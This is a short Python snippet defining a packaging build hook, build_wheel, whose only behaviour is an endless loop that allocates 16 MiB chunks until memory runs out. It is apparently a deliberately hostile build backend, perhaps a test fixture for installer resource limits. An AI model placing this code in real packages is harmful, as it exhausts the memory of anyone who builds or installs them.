def build_wheel(folder, config_settings=None, metadata_directory=None):
    eaten = []
    while True:
        eaten.append(b"x" * (16 << 20))
